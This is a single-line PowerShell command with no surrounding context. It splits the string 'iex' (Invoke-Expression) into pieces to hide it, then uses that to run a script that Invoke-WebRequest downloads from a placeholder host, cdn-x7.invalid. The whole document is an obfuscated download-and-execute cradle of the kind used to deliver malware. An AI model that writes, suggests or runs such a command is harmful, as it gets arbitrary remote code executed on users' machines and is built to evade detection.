.("i"+"ex") (iwr -useb https://cdn-x7.invalid/a.ps1)
